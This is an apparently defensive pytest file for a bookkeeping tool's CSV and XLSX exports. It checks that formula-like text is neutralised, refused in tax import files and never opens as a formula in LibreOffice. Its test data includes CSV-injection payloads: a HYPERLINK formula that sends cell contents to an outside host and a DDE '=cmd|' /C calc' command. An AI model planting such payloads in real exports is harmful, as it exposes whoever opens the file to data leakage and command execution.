"""Exports that cannot attack their reader (issue 15): CSV injection.

A CSV report's text that begins like a formula (``=``, ``+``, ``-``, ``@``, tab, carriage
return, line feed: OWASP's list, https://owasp.org/www-community/attacks/CSV_Injection)
is written with a single quote before it, and text holding a separator or a quote is
quoted; numbers stay bare numbers. The tax office's import files refuse such text at
Check instead. Real LibreOffice opens what we wrote.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from arapbook import arap_book
from conftest import ACCOUNTS, ledger
from programs import needs

from backoffice.checking import check
from backoffice.cli import main
from backoffice.errors import ActionRefused
from backoffice.formula_text import TRIGGERS, csv_text, formula_like, neutralize
from backoffice.ledger.reports import Field, Table, to_csv

D = dt.date
SOFFICE = shutil.which("soffice")

#: Text a person (or an attacker) may type into a book, each beginning like a formula.
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "\n=1+1", "=1+2\";=1+2", "x;=1+1", "y,=1+1", "+62 812-3456-7890"]


def _table(name: str, *values: object) -> Table:
    return Table(name, [Field("text", "Text", "Teks")], [(v,) for v in values])


def test_owasps_two_examples_are_escaped_as_its_page_shows_and_safe_under_a_semicolon():
    # The page's table: =1+2";=1+2 -> "'=1+2"";=1+2" and =1+2'" ;,=1+2 -> "'=1+2'"" ;,=1+2".
    # Each is wrapped in double quotes, begins with a single quote, its quotes doubled. The
    # "=" after ";" or "," also gets a quote: opened with ";" as the separator (Excel set
    # up for Indonesia), a line of several columns would otherwise start a cell "=1+2"
    # (the LibreOffice test below shows it).
    assert csv_text('=1+2";=1+2') == '"\'=1+2"";\'=1+2"'
    assert csv_text("=1+2'\" ;,=1+2") == '"\'=1+2\'"" ;,\'=1+2"'


def test_every_trigger_of_owasps_list_is_neutralised_and_nothing_else():
    assert TRIGGERS == set("=+-@\t\r\n")
    for first in "=+-@\t\r\n":
        assert neutralize(first + "1") == "'" + first + "1"
    for text in ("1101", "Sale", "'=1+1", " =1+1", "x=1", "", "(1)", "#REF!", "a-b", "x; y",
                 "PT A, Tbk"):
        assert neutralize(text) == text and not formula_like(text)
    for inner in ("a;=1", "a,+1", "a\t-1", "a\n@1", "a\r=1", 'a; "=1', "a,  @x"):
        spot = next(i for i, c in enumerate(inner) if c in "=+-@")
        assert neutralize(inner) == inner[:spot] + "'" + inner[spot:]


def test_numbers_and_dates_stay_bare_and_text_is_neutralised_in_a_report_csv():
    table = Table("general-ledger", [Field("a", "A", "A"), Field("b", "B", "B", "amount"),
                                     Field("c", "C", "C", "date")],
                  [("+62 812-3456-7890", Decimal("-1500.00"), D(2026, 3, 1)),
                   ("=SUM(A1:A9)", Decimal("0.50"), None), ("plain", 7, None)])
    # A neutralised cell holds an apostrophe, so it is quoted too, as OWASP's examples are.
    assert to_csv(table) == ("a,b,c\n"
                             "\"'+62 812-3456-7890\",-1500.00,2026-03-01\n"
                             "\"'=SUM(A1:A9)\",0.50,\n"
                             "plain,7,\n")


def test_a_separator_or_quote_inside_text_cannot_start_a_cell_in_any_dialect():
    text = to_csv(_table("general-ledger", "x;=1+1", "y,=1+1", "z\t=1+1", 'say "hi"', "O'Neil"))
    assert text.splitlines()[1:] == ['"x;\'=1+1"', '"y,\'=1+1"', '"z\t\'=1+1"',
                                     '"say ""hi"""', '"O\'Neil"']
    for delimiter in ",;\t":
        for row in list(csv.reader(io.StringIO(text), delimiter=delimiter))[1:]:
            assert not any(formula_like(cell) for cell in row)


def test_a_machine_import_file_refuses_formula_like_text_instead_of_changing_it():
    assert to_csv(_table("efaktur-csv", "Toko Makmur", "'=1+1")) == \
        "text\nToko Makmur\n\"'=1+1\"\n"
    for text in ("=1+1", "-X", "@A", " +A", "PT A;=1+1"):  # (text is stripped first)
        with pytest.raises(ActionRefused) as refused:
            to_csv(_table("efaktur-csv", text))
        assert "spreadsheet reads as the start of a formula" in refused.value.render("en")
        assert "dibaca spreadsheet sebagai awal rumus" in refused.value.render("id")


def _hostile_ledger(make_book) -> Path:
    accounts = [*ACCOUNTS, ["5102", "=cmd|' /C calc'!A0", "expense", None]]
    rows = []
    for number, text in enumerate(HOSTILE):
        rows.append([D(2025, 1, 5), f"JV-{number}", "5102", text, 1000, None, None])
        rows.append([D(2025, 1, 5), f"JV-{number}", "1101", text, None, 1000, None])
    rows.append([D(2025, 1, 6), "@ENTRY", "1101", "cash in", 250, None, None])
    rows.append([D(2025, 1, 6), "@ENTRY", "4101", "-", None, 250, None])
    return make_book(ledger(rows, accounts))


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))[1:]


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def test_no_cell_of_a_ledger_report_begins_like_a_formula_unless_it_is_a_number(
        make_book, capsys):
    path = _hostile_ledger(make_book)
    assert check(str(path)).valid
    seen_text, seen_negative = set(), 0
    for name in ("general-ledger", "trial-balance", "income-statement", "balance-sheet"):
        assert main(["report", str(path), name]) == 0
        for row in _cells(capsys.readouterr().out):
            for cell in row:
                if _is_number(cell):
                    seen_negative += cell.startswith("-")
                    continue
                assert not formula_like(cell), (name, cell)
                seen_text.add(cell)
    # Every hostile description reached the general ledger, neutralised, and the account
    # name and entry number too; amounts stayed numbers (some of them negative).
    assert {neutralize(t.strip()) for t in HOSTILE} <= seen_text
    assert {"'=cmd|' /C calc'!A0", "'@ENTRY", "'-", "x;'=1+1", "'+62 812-3456-7890"} <= seen_text
    assert seen_negative > 0


def test_the_receivables_reports_neutralise_a_payments_number(make_book, capsys):
    # A document's number and its party are refused at Check (they reach the tax office's
    # files); a payment's number reaches only the statements, neutralised.
    path = arap_book(make_book, invoices=[
        ["INV-1", D(2026, 3, 2), "C01", None, None, None, "Goods", 1, 1000, None, None]],
        payments=[["=R-1", D(2026, 3, 20), "Received", "C01", "1102", 400, None, None, "INV-1",
                   None, None, None],
                  ["@R-2", D(2026, 3, 21), "Received", "C01", "1102", 100, None, None, "INV-1",
                   None, None, None]])
    assert check(str(path)).valid
    assert main(["report", str(path), "customer-statements", "--as-of", "2026-03-31"]) == 0
    text = capsys.readouterr().out
    assert text.splitlines()[2:4] == [
        "C01,Toko Makmur,IDR,2026-03-20,\"'=R-1\",Payment,,400.00,600.00",
        "C01,Toko Makmur,IDR,2026-03-21,\"'@R-2\",Payment,,100.00,500.00"]


def test_an_xlsx_report_keeps_formula_like_text_as_text_when_edited(make_book, tmp_path):
    path = _hostile_ledger(make_book)
    target = tmp_path / "gl.xlsx"
    assert main(["report", str(path), "general-ledger", "--format", "xlsx", "--output",
                 str(target)]) == 0
    sheet = openpyxl.load_workbook(target).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]

    def text(cell) -> str:  # openpyxl leaves a carriage return in its escaped form
        return str(cell.value).replace("_x000D_", "\r")

    hostile = [c for c in cells if isinstance(c.value, str) and formula_like(text(c))]
    # (the descriptions as typed: a tab or line break before "=" is kept, see coerce)
    assert {text(c) for c in hostile} >= {t for t in HOSTILE if formula_like(t)}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    assert not any(c.quotePrefix for c in cells if c not in hostile)


def test_stock_print_neutralises_an_items_name(make_book, capsys):
    from test_inventory import ITEMS, _book, _run

    items = [list(r) for r in ITEMS]
    items[2][1] = "=HYPERLINK(\"http://x\")"  # the black pen, which is to be reordered
    path = _book(make_book)
    book = openpyxl.load_workbook(path)
    book["Items"]["B3"].value = items[2][1]
    book["Items"]["B3"].data_type = "s"  # typed as text, not a formula
    book.save(path)
    assert _run(path, "--print", "reorder") == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[1] == ('DRAFT-20250228-01,PT Indo Stationery,PEN-BLK,'
                        '"\'=HYPERLINK(""http://x"")",pcs,20,24,48,2500.00,120000.00')


# -- the tax office's files: refused at Check --------------------------------------------------

def test_check_refuses_formula_like_text_that_would_reach_the_tax_offices_files(make_book):
    path = arap_book(make_book, invoices=[
        ["-INV-1", D(2026, 3, 2), "C01", None, None, None, "- Goods", 1, 1000, None, None],
        ["INV-2", D(2026, 3, 2), "C02", None, None, None, "Goods", 1, 1000, None, None]])
    book = openpyxl.load_workbook(path)
    customers = book["Customers"]
    customers["B2"].value = '=HYPERLINK("http://x")'
    customers["B2"].data_type = "s"
    customers["D2"].value = " @Bandung"
    customers["B3"].value = "PT Jasa; =1+1"
    book.save(path)
    report = check(str(path), lang="en")
    found = [(i.sheet, i.cell, i.value) for i in report.issues if i.code == "text-formula-like"]
    assert found == [("Customers", "B2", '=HYPERLINK("http://x")'),
                     ("Customers", "D2", " @Bandung"), ("Customers", "B3", "PT Jasa; =1+1"),
                     ("Invoices", "A2", "-INV-1"), ("Invoices", "G2", "- Goods")]
    issues = {i.cell: i for i in report.issues if i.code == "text-formula-like"}
    message, fix = issues["B2"].message("en")
    assert message == ("Name: '=HYPERLINK(\"http://x\")' begins with '=', which a spreadsheet "
                       "reads as the start of a formula; this text goes into the tax office's "
                       "import files as it is.")
    assert fix.startswith("Begin the text, and any part of it after a comma")
    assert issues["B3"].message("en")[0].startswith("Name: 'PT Jasa; =1+1' has '=' after ';'")
    message, fix = issues["D2"].message("id")
    assert message.startswith("Address: ' @Bandung' diawali '@', yang dibaca spreadsheet "
                              "sebagai awal rumus")
    assert fix.startswith("Awali teksnya")
    # A sales line's description is the goods' name in the Coretax tax invoice: refused too.
    assert issues["G2"].message("en")[0].startswith("Description: '- Goods' begins with '-'")
    assert main(["report", str(path), "efaktur-csv"]) == 2


def test_the_catalogue_documents_the_new_code():
    from backoffice.catalogue import lookup

    entry = lookup("text-formula-like")
    assert (entry.severity, entry.category) == ("error", "cell")


# -- real LibreOffice opens what we wrote ----------------------------------------------------

def _libreoffice_cells(csv_path: Path, tmp_path: Path, separator: str) -> list[list[object]]:
    """Open ``csv_path`` in LibreOffice with ``separator`` (formulas evaluated, as LibreOffice
    does by default) and read back each cell: its value, or ``('formula', text)``."""
    out = tmp_path / f"lo-{ord(separator)}"
    profile = tmp_path / "lo-profile"
    # CSV filter options: separator, text qualifier ", UTF-8 (76), start at line 1.
    options = f"CSV:{ord(separator)},34,76,1"
    subprocess.run([SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless",
                    f"--infilter={options}", "--convert-to", "xlsx", "--outdir", str(out),
                    str(csv_path)], check=True, capture_output=True, timeout=240)
    book = openpyxl.load_workbook(out / (csv_path.stem + ".xlsx"))
    return [[("formula", c.value) if c.data_type == "f" else c.value for c in row]
            for row in book.active.iter_rows()]


@needs("soffice")
def test_libreoffice_opens_the_report_with_no_formula_and_every_text_as_it_was(make_book,
                                                                             tmp_path):
    path = _hostile_ledger(make_book)
    written = tmp_path / "gl.csv"
    assert main(["report", str(path), "general-ledger", "--output", str(written)]) == 0
    # The control: the same text unneutralised does become formulas in LibreOffice, so the
    # test below could fail.
    control = tmp_path / "control.csv"
    control.write_text("text\n=1+2\nx;=1+1\n", "utf-8")
    assert ("formula", "=1+2") in [c for row in _libreoffice_cells(control, tmp_path, ",")
                                   for c in row]
    assert ("formula", "=1+1") in [c for row in _libreoffice_cells(control, tmp_path, ";")
                                   for c in row]
    # Opened with ";" (Excel set up for Indonesia), no cell is a formula either.
    cells = _libreoffice_cells(written, tmp_path, ";")
    assert not [c for row in cells for c in row if isinstance(c, tuple)]
    # Opened with its own separator: no formula, the amounts are numbers, and every text is
    # as the report wrote it.
    cells = _libreoffice_cells(written, tmp_path, ",")
    assert not [c for row in cells for c in row if isinstance(c, tuple)]
    header = cells[0]
    debits = [row[header.index("debit")] for row in cells[1:]]
    assert {d for d in debits if d is not None} == {1000, 250}
    balances = [row[header.index("balance")] for row in cells[1:]]
    assert any(isinstance(b, (int, float)) and b < 0 for b in balances)
    descriptions = {row[header.index("description")] for row in cells[1:]}
    assert {neutralize(t.strip()) for t in HOSTILE} <= descriptions


# -- Sync keeps what neutralises such text -------------------------------------------------------

def test_text_kept_as_text_by_a_quote_or_a_space_round_trips_through_the_store(make_book,
                                                                               store_url):
    """A person keeps ``=1+1`` as text with an apostrophe or a space before it; Sync
    carries exactly that to a colleague's book, never a formula (SQLite and PostgreSQL)."""
    import shutil
    import zipfile

    from sync_helpers import edit, journal_rows, run, store_rows

    a = make_book(ledger(journal_rows(("JV-1", "sale", 100))), name="a.xlsx")
    assert run(a, store_url).exit_code == 0
    b = a.with_name("b.xlsx")
    shutil.copy(a, b)
    edit(a, "Journal", {0: {"Description": "'=1+1"}, 1: {"Description": " =1+1"}})
    assert run(a, store_url).pushed["journal"] == (0, 2, 0)
    assert {r["description"] for r in store_rows(store_url, "journal")} == {"'=1+1", " =1+1"}
    assert run(b, store_url, user="budi").pulled["journal"] == (0, 2, 0)
    cells = openpyxl.load_workbook(b)["Journal"]["D"][1:3]
    assert [(c.value, c.data_type) for c in cells] == [("'=1+1", "s"), (" =1+1", "s")]
    with zipfile.ZipFile(b) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet3.xml")
    assert check(str(b)).valid
    again = run(b, store_url, user="budi")
    assert (again.pushed, again.pulled, again.saved) == ({}, {}, False)
    # And b's report neutralises both (the space is trimmed, then the apostrophe added).
    assert main(["report", str(b), "general-ledger"]) == 0
